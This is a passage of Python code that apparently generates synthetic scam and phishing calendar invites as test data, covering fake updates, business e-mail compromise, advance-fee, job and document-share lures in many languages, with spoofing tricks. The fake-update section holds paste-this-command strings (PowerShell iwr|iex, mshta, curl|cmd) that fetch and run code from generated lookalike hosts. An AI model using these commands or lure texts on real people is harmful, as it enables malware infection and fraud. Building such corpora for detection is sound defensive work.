    who = c.pick([(brand.split()[0] + ' Billing', 'billing'), any_person(c), ('Customer Support', 'support'), ('', 'orders')])
    frm, org = sender(c, kind, who=who, domain={'lookalike': lookalike(c, brand.split()[0].lower(), ['billing', 'renewal', 'invoice']),
                                               'vps': '%s.%s' % (alnum(c.rng, 8).lower(), c.pick(['com', 'net', 'info']))}.get(kind))
    st, en, tz = c.when(0, 2, dur=(15, 30))
    ev = event(c, s, d, st, en, tz, location=c.pick(['', 'Call ' + ph, ph, 'Billing Department']), organizer=org,
               attendees=victims(c, 0, 5))
    m = message(c, frm, ev, 'REQUEST')
    if c.chance(0.2):
        ev['attach'].append(dict(url='cid:invoice-%s' % c.digits(5), fmttype='application/pdf', filename='Invoice.pdf'))
    m['desc_line'] = 'callback scam, %s renewal, phone only (%s)' % (brand, c.lang)
    return finish(c, m, NOTES_EN if c.lang == 'en' else None)


# ==================================================================== fake-update
UPD_EN = [
    ("Action required before the meeting: update your {app} client", "Your {app} version is no longer supported for this meeting. Install the update (2 min) before joining:\n{url}"),
    ("{org} – Quarterly review (join via the new meeting plugin)", "Please install the secure meeting plugin provided by our IT department prior to the session: {url}\nMeeting ID: {mid}"),
    ("Verify you are human to join", "To open the meeting room:\n1. Press Windows + R\n2. Paste the verification code (Ctrl+V)\n3. Press Enter\n\n{cmd}\n\nVerification ID: {vid}"),
    ("Document viewer update needed", "The shared document uses a new format. Update your viewer to open it: {url}"),
    ("Meeting audio driver missing", "We detected that your audio device is not compatible. Run the fix before the call:\n{cmd}"),
]
UPD_FX = {
    'zh_tw': ("會議用戶端版本過舊，請更新後加入", "您的會議軟體版本已停止支援。請先下載並安裝最新版本後再加入會議：{url}"),
    'zh': ("会议客户端版本过低，请更新后加入", "您的会议软件版本已停止支持。请先下载并安装最新版本后再加入会议：{url}"),
    'ru': ("Требуется обновление клиента для участия в совещании", "Ваша версия приложения устарела. Скачайте обновление по ссылке и запустите установщик: {url}"),
    'pl': ("Weryfikacja przed dołączeniem do spotkania", "Aby potwierdzić, że nie jesteś robotem: 1) naciśnij Win+R, 2) wklej skopiowane polecenie (Ctrl+V), 3) naciśnij Enter.\n{cmd}"),
    'tr': ("Toplantıya katılmak için eklenti güncellemesi gerekli", "Toplantı uygulamanızın sürümü desteklenmiyor. Lütfen güncellemeyi indirip kurun: {url}"),
}


def fake_update(c):
    app = c.pick(['Zoom', 'Teams', 'Webex', 'Skype', 'GoTo Meeting'] if c.year >= 2019 else ['Skype', 'WebEx', 'Flash Player', 'GoToMeeting'])
    dom = lookalike(c, app.lower().replace(' ', ''), ['update', 'download', 'meeting', 'app', 'client', 'cdn', 'install'])
    fn = c.pick(['%sInstaller.exe' % app.replace(' ', ''), '%s_update_x64.msi' % app.replace(' ', '').lower(),
                 'MeetingPlugin.msix', 'setup_%s.exe' % c.digits(4), 'Client.zip'])
    url = 'https://%s/%s' % (dom, c.pick([fn, 'download?v=%s' % c.digits(6), 'dl/%s/%s' % (alnum(c.rng, 6), fn)]))
    host2 = lookalike(c, c.pick(['cloudverify', 'captcha', 'check', 'securecdn']), ['cdn', 'check', 'io', 'host'])
    cmd = c.pick(['powershell -w h -nop -c "iwr https://%s/%s.ps1 -UseB | iex"  # I am not a robot - ID %s' % (host2, alnum(c.rng, 5).lower(), c.digits(6)),
                  'mshta https://%s/%s  # Verification %s' % (host2, alnum(c.rng, 8).lower(), c.digits(6)),
                  'cmd /c curl -s https://%s/v | cmd  ✅ Human check %s' % (host2, c.digits(5))])
    if c.year < 2024:
        cmd = 'Download the fix: ' + url
    org = c.org('en')[0]
    s, d = T(c, UPD_EN if c.year >= 2024 else UPD_EN[:2] + UPD_EN[3:4], UPD_FX if (c.lang != 'pl' or c.year >= 2024) else
             {'pl': ("Wymagana aktualizacja klienta spotkań", "Twoja wersja aplikacji jest nieaktualna. Pobierz aktualizację przed spotkaniem: {url}")},
             app=app, url=url, org=org, mid=' '.join(c.digits(3) for _ in range(3)), cmd=cmd, vid=c.digits(8))
    kind = kind_for(c, ['lookalike', 'org', 'spoof', 'free'])
    frm, orgp = sender(c, kind, who=c.pick([(app + ' Meetings', 'no-reply'), c.name(), ('IT Service Desk', 'it-support')]),
                       domain={'lookalike': dom, 'org': c.org()[1], 'spoof': c.rcpt.domain}.get(kind))
    st, en, tz = c.when(0, 3, dur=(30, 45, 60))
    loc = ''
    if c.client == 'outlook':
        loc = c.pick(['Microsoft Teams Meeting', 'Online'])
    ev = event(c, s, d, st, en, tz, location=loc, organizer=orgp, attendees=victims(c, 0, 4))
    m = message(c, frm, ev, 'REQUEST')
    if c.chance(0.35) and url in d:
        hide(c, m, url, 'Join meeting', c.pick(['conference', 'url', 'location']))
    m['desc_line'] = 'fake %s update / paste-command lure (%s)' % (app, c.lang)
    return finish(c, m, NOTES_EN if c.lang == 'en' else None)


# ==================================================================== bec
BEC_EN = [
    ('ceo', "Quick call – confidential", "{first}, are you at your desk? I need you to handle a time-sensitive payment for an acquisition we're finalising. Keep this between us for now. Reply to this email with your mobile number.\n\n{ceo}\nSent from my iPhone"),
    ('gift', "Client appreciation – need your help", "Hi {first}, I need you to purchase {n} Apple gift cards ({amount} each) for some clients today. I'll reimburse you. Scratch the back and email me clear photos of the codes. I'm in back-to-back meetings so email only.\n{ceo}"),
    ('bank', "Updated remittance details – {supplier}", "Dear Accounts Payable,\nPlease note that our banking details have changed following our annual audit. Kindly update your records before the next payment run.\nBank: {bankname}\nIBAN: {iban}\nBIC: {bic}\nPlease do not remit to the old account.\nRegards,\n{sender}\nAccounts Receivable, {supplier}"),
    ('payroll', "Direct deposit update before payroll", "Hello, I recently switched banks and need to update my direct deposit before the next pay date. What details do you need from me? Please treat as urgent.\nThanks,\n{emp}"),
    ('ceo', "Wire request – {project}", "Please process an international wire of {big} today for {project}. Our lawyer will send the beneficiary details. I'm travelling and can't take calls. Confirm when ready.\n{ceo}"),
    ('bank', "Overdue invoices and new account", "Hi, our finance team noticed invoices {inv} and {inv2} are overdue. Please pay to our new account ({bankname}, IBAN {iban}) as the old one is under maintenance.\n{sender}"),
]
BEC_FX = {
    'de': ('ceo', "Dringende Überweisung – vertraulich", "Hallo {first}, ich brauche heute noch Ihre Unterstützung bei einer vertraulichen Überweisung im Rahmen einer Übernahme. Bitte antworten Sie mir direkt per E-Mail, ich sitze in Meetings.\n{ceo}"),
    'es': ('bank', "Cambio de cuenta bancaria – {supplier}", "Estimados: les informamos de que, por auditoría interna, hemos cambiado nuestra cuenta. Por favor, realicen los próximos pagos a: IBAN {iban}. Saludos, {sender}"),
    'pt': ('payroll', "Atualização de dados bancários – folha de pagamento", "Olá, mudei de banco e preciso atualizar minha conta para o próximo pagamento de salário. Pode me ajudar ainda hoje? Obrigado, {emp}"),
    'ja': ('ceo', "至急のお願い（社外秘）", "お疲れ様です。取引先への支払いを本日中に進めたいので、対応できるか返信ください。会議中のためメールでお願いします。\n{ceo}"),
    'ar': ('gift', "طلب عاجل – بطاقات هدايا للعملاء", "مرحبًا، أحتاج منك شراء 5 بطاقات هدايا بقيمة {amount} لكل منها لعملائنا اليوم. أرسل لي صور الرموز بعد الشراء. أنا في اجتماع ولا أستطيع الرد على الهاتف.\n{ceo}"),
    'it': ('bank', "Variazione coordinate bancarie – {supplier}", "Gentile cliente, a seguito di verifica interna le comunichiamo le nuove coordinate per i pagamenti: IBAN {iban}. Le chiediamo di aggiornare l'anagrafica prima della prossima scadenza."),
}


def iban(c):
    cc = c.pick(['GB', 'DE', 'LT', 'PT', 'ES', 'IT', 'NL', 'IE', 'BE'])
    return '%s%s %s %s %s %s' % (cc, c.digits(2), c.code(4, string.ascii_uppercase) if cc in ('GB', 'NL', 'IE') else c.digits(4),
                                 c.digits(4), c.digits(4), c.digits(4))


def bec(c):
    if c.lang == 'en':
        typ, s, d = bag(c, BEC_EN)
    else:
        typ, s, d = BEC_FX[c.lang]
    rc_dom = c.rcpt.domain
    ceo_name = c.name()
    supplier = c.org(c.lang if c.lang in LG.ORGS else 'en')
    vals = dict(first=rcpt_first(c), ceo=ceo_name[0], n=c.rint(4, 8), amount=c.pick(['$200', '$100', '$500', '€100']) if c.lang != 'ar' else '500 ر.س',
                supplier=supplier[0], bankname=c.pick(['Revolut Business', 'Wise', 'Lloyds Bank', 'Santander', 'Banco BPM']),
                iban=iban(c), bic=c.code(8, string.ascii_uppercase), sender=c.name()[0], emp=c.name()[0],
                big=c.pick(['$48,750.00', '€86,400', '$127,300']), project='Project ' + c.pick(['Falcon', 'Orion', 'Atlas', 'Nova']),
                inv=c.digits(6), inv2=c.digits(6))
    s, d = fill(s, **vals), fill(d, **vals)
    kind = kind_for(c, ['free', 'lookalike', 'spoof', 'org'])
    if typ == 'bank':
        la = supplier[1].replace('.example', c.pick(['-invoices.com', '.co', '-ltd.com', '-finance.net', 'group.com']))
        frm, org = sender(c, kind if kind != 'spoof' else 'spoof', who=c.name(), domain={'lookalike': la, 'spoof': supplier[1],
                                                                                         'org': supplier[1]}.get(kind))
    else:
        who = ceo_name if typ in ('ceo', 'gift') else (vals['emp'], c.name()[1])
        la = rc_dom.split('.')[0] + c.pick(['-corp', '-group', 'inc', '-mail', '-hq']) + '.' + c.pick(['com', 'net', 'co'])
        frm, org = sender(c, kind, who=who, domain={'lookalike': la, 'spoof': rc_dom, 'org': c.org()[1]}.get(kind),
                          disp=who[0] if typ != 'payroll' else vals['emp'])
    st, en, tz = c.when(0, 2, h0=9, h1=16, dur=(15, 30))
    ev = event(c, s, d, st, en, tz, location=c.pick(['', '', 'Phone', 'My office']), organizer=org, attendees=[att(c.rcpt)])
    m = message(c, frm, ev, 'REQUEST')
    if c.chance(0.5):
        m['reply_to'] = P(org.name, '%s%s@%s' % (org.local.split('@')[0][:12], c.pick(['.office', '.exec', '']),
                                                c.pick(['gmail.com', 'outlook.com', 'proton.me', 'yahoo.com'])))
        m.setdefault('extra_headers', []).append('Reply-To: %s <%s>' % (m['reply_to'].name if m['reply_to'].name.isascii() else '',
                                                                          m['reply_to'].email)) if c.client not in ('custom', 'zoom', 'google', 'yahoo', 'nextcloud') else None
    m['desc_line'] = 'business e-mail compromise: %s (%s)' % (typ, c.lang)
    return finish(c, m, None)


# ==================================================================== advance-fee
AFF_EN = [
    ("Confidential business proposal", "Good day, I am {lawyer}, a senior attorney. A deceased client of mine left {big} with no next of kin. I propose we share the funds 60/40. Kindly reply to my private email {reply} for details."),
    ("UN compensation fund – payment approved", "This is to inform you that your compensation of {big} has been approved. Contact the paying officer {lawyer} at {reply} with your full name, address and phone number."),
    ("Consignment box awaiting delivery", "A diplomatic courier is holding a box registered in your name containing {big}. Clearance fee required. Contact agent {lawyer}: {reply}"),
    ("Dear friend, I need your assistance", "I am a widow suffering from cancer and I want to donate {big} to charity through a trustworthy person. Please reply to {reply}. God bless you."),
    ("Lottery winning notification – Ref {code}", "Your email address won {big} in our international e-mail draw. To claim, contact our claims agent {lawyer} at {reply}."),
]
AFF_FX = {
    'zh_tw': ("海外遺產繼承通知", "您好，我是一名律師，我的客戶去世後留下{big}的存款，無人繼承。因您與其同姓，我希望與您合作辦理。請回覆：{reply}"),
    'ar': ("عرض شراكة سري بقيمة {big}", "أنا مستشار مالي لعائلة رجل أعمال متوفى، وأبحث عن شريك موثوق لنقل مبلغ {big}. ستحصل على 40%. راسلني على بريدي الخاص: {reply}"),
    'fr': ("Héritage non réclamé – Dossier {code}", "Maître {lawyer}, notaire. Un de vos parents éloignés a laissé une somme de {big} sans héritier. Contactez-moi en toute discrétion : {reply}"),
    'zh': ("海外遗产继承通知", "您好，我是一名律师，我的客户去世后留下{big}的存款，无人继承。因您与其同姓，我希望与您合作办理。请回复：{reply}"),
    'he': ("הצעה עסקית חסויה", "שלום, אני מנהל חשבונות בבנק בחו\"ל. יש חשבון רדום על סך {big} ואני מחפש שותף אמין. פנה אליי: {reply}"),
    'hi': ("संयुक्त राष्ट्र मुआवजा कोष – आपका भुगतान स्वीकृत", "आपके नाम पर {big} का मुआवजा स्वीकृत किया गया है। भुगतान जारी करने के लिए अपना पूरा नाम, पता और फोन नंबर भेजें: {reply}"),
}


def advance_fee(c):
    lawyer = c.pick(['Barrister James Okoro', 'Dr. Williams Mensah', 'Mrs. Grace Adebayo', 'Mr. Ali Hassan', 'Me. Pierre Lambert',
                     'Dr. Kofi Annang'])
    reply = '%s%s@%s' % (c.pick(['barr.', 'dr.', 'mrs.', 'info.', 'office.']), alnum(c.rng, 7).lower(),
                         c.pick(['gmail.com', 'outlook.com', 'yahoo.com', 'proton.me', 'mail.com', 'gmx.com']))
    s, d = T(c, AFF_EN, AFF_FX, lawyer=lawyer, reply=reply, code=c.code(8),
             big=c.pick(['$10,500,000.00', 'US$4.7 million', '€7,200,000', '$18.5M USD', '£3,850,000']))
    kind = kind_for(c, ['free', 'free', 'org', 'vps'])
    frm, org = sender(c, kind, who=(lawyer.split('. ', 1)[-1], c.pick(['info', 'office', 'chambers', 'legal', 'barr']) + c.digits(2)),
                      domain={'org': c.org(c.pick(['en', c.lang]))[1], 'vps': '%s-chambers.%s' % (alnum(c.rng, 6).lower(), c.pick(['com', 'org']))}.get(kind))
    st, en, tz = c.when(1, 14)
    ev = event(c, s, d, st, en, tz, location='', organizer=org, attendees=victims(c, 0, 25))
    m = message(c, frm, ev, 'REQUEST')
    m['desc_line'] = 'advance-fee fraud (%s)' % c.lang
    return finish(c, m, NOTES_EN if c.lang == 'en' else None)


# ==================================================================== task-job-scam
JOB_EN = [
    ("Remote part-time position – earn $200–$500/day", "Hi! We are hiring for a flexible online role (30–60 min per day). No experience needed, daily payouts. Contact our HR coordinator on WhatsApp: {phone}"),
    ("Interview invitation – {company}", "Your resume was shortlisted for the Remote Data Assistant role. The interview is conducted via Telegram chat. Please add our recruiter {tg} and mention code {code}."),
    ("Product review tasks – paid daily", "Help brands improve their ranking by completing simple tasks on your phone. Start with a free trial of 40 tasks.\nWhatsApp: {phone}"),
    ("Job offer: hotel rating assistant", "Earn commission by rating hotels online. Training provided. Message {tg} on Telegram to get started today."),
    ("Congratulations on passing the first round", "Dear candidate, please add the hiring manager on WhatsApp ({phone}) to receive your onboarding tasks. Starting bonus: $100."),
]
JOB_FX = {
    'zh_tw': ("兼職招募：每天1-2小時，日領新台幣1500元", "無需經驗，手機即可操作，為商家按讚評價即可獲得佣金。請加HR的LINE：{line}"),
    'zh': ("兼职招聘：每天1-2小时，日结300元", "无需经验，手机即可操作，为商家点赞评价即可获得佣金。请添加HR微信/WhatsApp：{phone}"),
    'hi': ("घर से काम करें – रोज़ ₹3000 तक कमाएं", "सिर्फ़ वीडियो लाइक करके कमाई करें। पार्ट-टाइम जॉब के लिए हमारे HR से WhatsApp पर संपर्क करें: {phone}"),
    'th': ("งานพาร์ทไทม์ออนไลน์ รายได้วันละ 1,500 บาท", "ทำงานผ่านมือถือ วันละ 1-2 ชั่วโมง ไม่ต้องมีประสบการณ์ ติดต่อเจ้าหน้าที่ทาง LINE: {line}"),
    'ru': ("Удалённая работа: оценка товаров, от 5000 ₽ в день", "Компания ищет сотрудников для выполнения простых заданий. Выплаты ежедневно. Пишите менеджеру в Telegram: {tg}"),
    'es': ("Oferta de empleo remoto – Entrevista con RR. HH.", "Hemos revisado su perfil y nos gustaría ofrecerle un puesto a tiempo parcial (150-400 € al día). Contacte con nuestra reclutadora por WhatsApp: {phone}"),
    'ko': ("재택 부업 모집 – 하루 30분, 일당 10만원", "간단한 상품 리뷰 작업입니다. 경력 무관. 카카오톡 오픈채팅으로 문의 주세요: {url}"),
}


def task_job(c):
    company = c.pick(['Harbor Talent Group', 'Nexa Staffing', 'BrightPath Recruiting', 'Meridian HR Solutions', 'Optima Careers'])
    ph = c.pick(['+1 (%d) 555-01%02d' % (c.rint(201, 989), c.rint(0, 99)), '+44 7700 900%03d' % c.rint(0, 999),
                 '+62 812 %04d %04d' % (c.rint(0, 9999), c.rint(0, 9999)), 'https://wa.me/%s' % c.digits(11)])
    tg = '@' + c.pick(['hr_', 'recruit_', 'job_', '']) + alnum(c.rng, 7, string.ascii_lowercase) + c.pick(['', '_hr', 'team'])
    url = 'https://open.kakao.com/o/%s' % alnum(c.rng, 8) if c.lang == 'ko' else spam_url(c)
    s, d = T(c, JOB_EN, JOB_FX, company=company, phone=ph, tg=tg, code=c.code(5), line='@' + alnum(c.rng, 8).lower(), url=url)
    kind = kind_for(c, ['free', 'free', 'org', 'lookalike'])
    frm, org = sender(c, kind, who=c.pick([c.name(), (company + ' HR', 'careers'), ('Recruitment Team', 'hr')]),
                      domain={'org': c.org()[1], 'lookalike': company.lower().replace(' ', '')[:14] + c.pick(['-jobs.com', '.careers', '-hr.net'])}.get(kind))
    st, en, tz = c.when(0, 5, dur=(30, 60))
    ev = event(c, s, d, st, en, tz, location=c.pick(['', 'WhatsApp', 'Telegram', 'Online', ph]), organizer=org,
               attendees=victims(c, 0, 15))
    m = message(c, frm, ev, 'REQUEST')
    m['desc_line'] = 'task/job scam moving victim to a messenger (%s)' % c.lang
    return finish(c, m, NOTES_EN if c.lang == 'en' else None)


# ==================================================================== compromised-doc-share
DOC_EN = [
    ("{sender} shared \"{doc}\"", "Hi,\nPlease review the attached document ahead of our call and revert with your comments.\nView document: {url}\n\nKind regards,\n{sender}\n{org}"),
    ("Payment confirmation – {doc}", "Good afternoon,\nPlease find our payment confirmation for the outstanding invoices. Click below to access the secure file.\n{url}\n\nThanks,\n{sender}"),
    ("RFQ {n} – documents for review", "Hello,\nWe are requesting a quotation for the items in the attached RFQ. Kindly review and submit your best price by {date}.\n{url}\n{sender} | Procurement | {org}"),
    ("Project files – {doc}", "Hi all, sharing the latest files for the project. Access with your email to view.\n{url}"),
    ("Signed contract for your records", "Dear partner,\nthe signed contract is now available. Please download and keep for your records.\n{url}\n{sender}"),
]
DOC_FX = {
    'nl': ("Gedeeld document: Offerte_{n}.pdf", "Goedemiddag, zie hierbij de offerte zoals besproken. Graag uw reactie voor vrijdag.\nDocument bekijken: {url}\nMet vriendelijke groet,\n{sender}"),
    'el': ("Κοινοποίηση εγγράφου: Πληρωμή τιμολογίου {n}", "Καλησπέρα, σας αποστέλλουμε το αποδεικτικό πληρωμής. Παρακαλούμε επιβεβαιώστε την παραλαβή.\nΠροβολή: {url}\n{sender}"),
    'tr': ("Paylaşılan dosya: Sözleşme taslağı", "Merhaba, toplantı öncesinde sözleşme taslağını incelemenizi rica ederim. Dosyaya buradan ulaşabilirsiniz: {url}\nSaygılarımla, {sender}"),
    'pl': ("Udostępniono plik: Zamówienie nr {n}", "Dzień dobry, w załączeniu przesyłam zamówienie do akceptacji. Proszę o potwierdzenie do końca dnia.\n{url}\n{sender}"),
    'he': ("שיתוף מסמך: הצעת מחיר מעודכנת", "שלום, מצורפת הצעת המחיר המעודכנת לעיונך לפני הפגישה. לצפייה במסמך: {url}\nבברכה, {sender}"),
}


def doc_share(c):
    org = c.org()
    who = c.name()
    doc = c.pick(['Remittance_Advice_%s.pdf' % c.digits(5), 'Q%d Statement.pdf' % c.rint(1, 4), 'Proposal_%s.docx' % org[0].split()[0],
                  'Invoice %s.pdf' % c.digits(6), 'Site plan rev%d.pdf' % c.rint(2, 9), 'Purchase Order %s' % c.digits(5)])
    url = c.pick([spam_url(c), spam_url(c, lookalike(c, c.pick(['sharepoint', 'onedrive', 'docs', 'files', 'sharefile']),
                                                         ['secure', 'view', 'files', 'share', 'online'])),
                  'https://%s.notion.site/%s-%s' % (alnum(c.rng, 8).lower(), doc.split('.')[0].replace(' ', '-'), hexs(c.rng, 32)),
                  'https://www.canva.com/design/%s/view' % alnum(c.rng, 11),
                  'https://%s.webflow.io/' % alnum(c.rng, 10).lower()])
    s, d = T(c, DOC_EN, DOC_FX, sender=who[0], doc=doc, url=url, org=org[0], n=c.digits(5), date=future_local(c, 3).strftime('%d/%m/%Y'))
    frm, orgp = sender(c, 'org', who=who, domain=org[1], policy=c.pick(['reject', 'quarantine', 'none']))
    st, en, tz = c.when(0, 4, dur=(30, 60))
    cc = random_people(c, c.rint(0, 30), domains=[c.rcpt.domain, 'example.com', 'example.org', c.rcpt.domain])
    ev = event(c, s, d, st, en, tz, location='', organizer=orgp, attendees=[att(c.rcpt)] + [att(p) for p in cc])
    m = message(c, frm, ev, 'REQUEST')
    if c.chance(0.45):
        hide(c, m, url, 'View document', fname=doc)
        if c.chance(0.5):
            ev['description'] = ev['description'].replace(url, '').strip()
    m['desc_line'] = 'document-share lure from a compromised partner mailbox (%s)' % c.lang
    return finish(c, m, None)


# ==================================================================== nagging-payload
NAG_EN = [
    ("⚠️ Your device is infected (3 threats)", "Critical: your system is at risk. Remove the threats now: {url}"),
    ("Your iCloud storage is full", "Your photos and videos will be deleted. Get 50GB free today: {url}"),
    ("Daily reward ready 🎁", "Tap to collect today's reward: {url}"),
    ("Subscription expired – renew now (70% off)", "Your antivirus protection is disabled. Renew today: {url}"),
    ("Reminder: claim your bonus", "Your $750 bonus is still waiting. Claim: {url}"),
]
NAG_FX = {
    'ja': ("⚠ ウイルスが検出されました – 今すぐ対応してください", "お使いのデバイスで3件の脅威が見つかりました。データを保護するため、今すぐ以下から対策を実行してください：{url}"),
    'th': ("คุณได้รับรางวัล! กดรับภายในวันนี้", "ขอแสดงความยินดี คุณเป็นผู้โชคดีประจำวัน กดรับรางวัลได้ที่ {url}"),
    'el': ("Η συνδρομή σας έληξε – ανανεώστε τώρα", "Η προστασία της συσκευής σας έχει απενεργοποιηθεί. Ανανεώστε σήμερα με έκπτωση 70%: {url}"),
    'ko': ("[알림] 저장 공간이 가득 찼습니다", "사진과 동영상이 곧 삭제됩니다. 지금 무료로 50GB를 추가하세요: {url}"),
}


def nagging(c):
    url = spam_url(c)
    s, d = T(c, NAG_EN, NAG_FX, url=url)
    kind = kind_for(c, ['free', 'vps', 'lookalike', 'org'])
    frm, org = sender(c, kind, who=c.pick([('Security Alert', 'alert'), ('', 'notice'), any_person(c), ('Reward Center', 'rewards')]),
                      domain={'vps': '%s.%s' % (alnum(c.rng, 9).lower(), c.pick(['top', 'xyz', 'icu'])),
                              'lookalike': lookalike(c, c.pick(['icloud', 'antivirus', 'secure', 'rewards'])), 'org': c.org()[1]}.get(kind))
    trick = c.pick(['endless', 'alarms', 'future', 'endless_alarms', 'past'])
    st, en, tz = c.when(0, 1, dur=(5, 15))
    kw = {}
    if trick in ('endless', 'endless_alarms', 'past'):
        kw['rrule'] = c.pick(['FREQ=DAILY', 'FREQ=DAILY;INTERVAL=1', 'FREQ=HOURLY;INTERVAL=6', 'FREQ=WEEKLY;BYDAY=MO,TU,WE,TH,FR,SA,SU',
                              'FREQ=DAILY;COUNT=3650', 'FREQ=MINUTELY;INTERVAL=30'])
    if trick == 'past':
        st = st - dt.timedelta(days=c.rint(200, 2000))
        en = st + dt.timedelta(minutes=15)
    if trick == 'future':
        yrs = c.pick([2099, 2100, 2199, 3000, c.year + 50])
        st = st.replace(year=yrs) if not (st.month == 2 and st.day == 29) else st.replace(year=yrs, day=28)
        en = st + dt.timedelta(minutes=15)
        kw['rrule'] = c.pick(['FREQ=YEARLY', 'FREQ=DAILY', None])
        if not kw['rrule']:
            del kw['rrule']
    alarms = []
    if trick in ('alarms', 'endless_alarms') or c.chance(0.3):
        n = c.rint(6, 40)
        step = c.pick([1, 2, 5, 10, 60])
        alarms = [dict(trigger='-PT%dM' % (i * step) if i else 'PT0S', desc=s) for i in range(n)]
    ev = event(c, s, d, st, en, tz, location=c.pick(['', url]), organizer=org, attendees=victims(c, 0, 3), **kw)
    ev['alarms'] = alarms or [dict(trigger='-PT1M', desc=s)]
    m = message(c, frm, ev, 'REQUEST')
    m['desc_line'] = 'nagging payload: %s (%s)' % (trick.replace('_', '+'), c.lang)
    return finish(c, m, NOTES_EN if c.lang == 'en' else None)


# ==================================================================== mass-invite
MASS_EN = [
    ("Get your website on page 1 of Google", "We are an SEO agency with 12 years of experience. Guaranteed first-page ranking in 30 days or your money back. Free audit: {url}"),
    ("Pre-approved business loan up to $250,000", "No collateral, funds in 24 hours, bad credit OK. Check your offer: {url}"),
    ("Global Leadership Summit {year} – you're invited", "Join 2,000 delegates in Dubai. Early-bird registration fee {amount} includes hotel. Register: {url}"),
    ("Online pharmacy – 80% off brand medications", "No prescription needed. Discreet worldwide shipping. Order: {url}"),
    ("Play & win – 200% welcome bonus", "Register now and get up to $1,000 plus 100 free spins. Instant withdrawals: {url}"),
    ("Hire offshore developers from $15/hour", "Dedicated teams for web, mobile and AI projects. Book a free consultation: {url}"),
]
MASS_FX = {
    'pt': ("Empréstimo aprovado na hora – sem consulta ao SPC", "Crédito de até R$ 50.000 liberado em 10 minutos, mesmo negativado. Fale com um consultor: {url}"),
    'ar': ("المؤتمر الدولي للقيادة والإدارة – دبي", "ندعوكم للمشاركة في المؤتمر الدولي. رسوم التسجيل {amount} تشمل الإقامة. سجّل الآن: {url}"),
    'it': ("Aumenta le visite del tuo sito del 300%", "Posizionamento garantito in prima pagina su Google in 30 giorni. Consulenza gratuita: {url}"),
    'hi': ("ऑनलाइन कैसीनो – पहली जमा पर 200% बोनस", "अभी रजिस्टर करें और ₹10,000 तक का वेलकम बोनस पाएं। तुरंत निकासी: {url}"),
    'tr': ("Uluslararası Yatırım Zirvesi – Davetlisiniz", "Dünyanın önde gelen yatırımcılarıyla tanışın. Kayıt ücreti {amount}, son gün yarın. Kayıt: {url}"),
}


def mass_invite(c):
    url = spam_url(c, c.pick([None, '%s.%s' % (alnum(c.rng, 8).lower(), c.pick(['com', 'net', 'biz', 'info']))]))
    s, d = T(c, MASS_EN, MASS_FX, url=url, year=c.year, amount=c.pick(['$1,250', '$950', '€990']))
    kind = kind_for(c, ['free', 'org', 'vps', 'lookalike'])
    frm, org = sender(c, kind, who=c.pick([c.name(), ('Events Team', 'events'), ('Business Development', 'bd')]),
                      domain={'org': c.org()[1], 'vps': '%s.%s' % (alnum(c.rng, 8).lower(), c.pick(['com', 'net', 'biz', 'info'])),
                              'lookalike': '%s-events.%s' % (alnum(c.rng, 6).lower(), c.pick(['com', 'org']))}.get(kind))
    n = c.rint(120, 480)
    ppl = random_people(c, n)
    # neighbours of the recipient in alphabetical harvest order
    base = c.rcpt.local.split('.')[0][:3]
    for i in range(c.rint(3, 12)):
        ppl.insert(c.rint(0, len(ppl)), P('', '%s%s%d@%s' % (base, alnum(c.rng, 3).lower(), i, c.rcpt.domain)))
    at = [att(p, rsvp=c.chance(0.8)) for p in ppl]
    at.insert(c.rint(0, len(at)), att(c.rcpt))
    st, en, tz = c.when(1, 20, dur=(60, 120))
    ev = event(c, s, d, st, en, tz, location=c.pick(['', 'Online', url, 'Dubai World Trade Centre']), organizer=org, attendees=at)
    to = [c.rcpt]
    if c.client in ('outlook', 'thunderbird', 'zimbra', 'custom') and c.chance(0.7):
        to = [a['p'] for a in at]
    m = message(c, frm, ev, 'REQUEST', to=to)
    m['desc_line'] = 'mass invitation to %d unrelated attendees (%s)' % (len(at), c.lang)
    return finish(c, m, NOTES_EN if c.lang == 'en' else None)


CATS = {
    'retail-sale': dict(n=12, fn=retail_sale, langs=['de', 'fr', 'ja', 'zh', 'ko', 'it'],
                        clients={'google': .25, 'apple': .25, 'outlook': .1, 'yahoo': .1, 'custom': .1, 'list': .06, 'thunderbird': .04, 'nextcloud': .04, 'zimbra': .03, 'sogo': .03},
                        title='Retail discount waves (sunglasses, bags, shoes) with shop links'),
    'prize-survey': dict(n=12, fn=prize_survey, langs=['es', 'pt', 'pl', 'tr', 'th', 'ar'],
                         clients={'google': .25, 'apple': .15, 'outlook': .15, 'yahoo': .1, 'custom': .2, 'zoom': .03, 'list': .07, 'thunderbird': .05},
                         title='Prize, survey and gift-card lures'),
    'crypto-investment': dict(n=12, fn=crypto, langs=['ru', 'de', 'ko', 'hi', 'he', 'zh'],
                              clients={'google': .25, 'outlook': .2, 'apple': .1, 'zoom': .15, 'custom': .15, 'yahoo': .05, 'list': .05, 'nextcloud': .05},
                              title='Crypto balances, trading webinars, investment clubs'),
    'dating-sextortion': dict(n=11, fn=dating, langs=['ru', 'es', 'ja', 'el', 'pl'],
                              clients={'google': .25, 'apple': .2, 'yahoo': .15, 'outlook': .15, 'custom': .1, 'sogo': .05, 'thunderbird': .05, 'list': .05},
                              title='Dating lures and sextortion demands'),
    'fee-scam': dict(n=12, fn=fee_scam, langs=['fr', 'nl', 'es', 'it', 'el', 'pt'],
                     clients={'custom': .3, 'google': .2, 'outlook': .2, 'apple': .1, 'zimbra': .07, 'thunderbird': .08, 'yahoo': .05},
                     title='Parcel, toll, tax-refund and fine payment lures'),
    'credential-phish': dict(n=14, fn=phish, langs=['de', 'nl', 'ja', 'ar', 'he', 'fr', 'ko'],
                             clients={'outlook': .3, 'google': .2, 'custom': .2, 'zimbra': .07, 'nextcloud': .07, 'sogo': .06, 'thunderbird': .05, 'apple': .05},
                             title='Brand credential phishing (Microsoft 365, DocuSign, PayPal, banks, Adobe, Dropbox, government)'),
    'callback-scam': dict(n=11, fn=callback, langs=['fr', 'it', 'th', 'hi', 'nl'],
                          clients={'google': .3, 'outlook': .25, 'custom': .2, 'apple': .1, 'yahoo': .1, 'zimbra': .05},
                          title='Subscription-renewal / tech-support callback scams (phone number only)'),
    'fake-update': dict(n=11, fn=fake_update, langs=['zh', 'ru', 'pl', 'tr'],
                        clients={'zoom': .2, 'outlook': .3, 'google': .2, 'thunderbird': .08, 'custom': .12, 'nextcloud': .05, 'sogo': .05},
                        title='Fake meeting-client updates and paste-this-command lures'),
    'bec': dict(n=12, fn=bec, langs=['de', 'es', 'pt', 'ja', 'ar', 'it'],
                clients={'outlook': .35, 'google': .2, 'yahoo': .1, 'apple': .15, 'thunderbird': .08, 'zimbra': .05, 'sogo': .04, 'custom': .03},
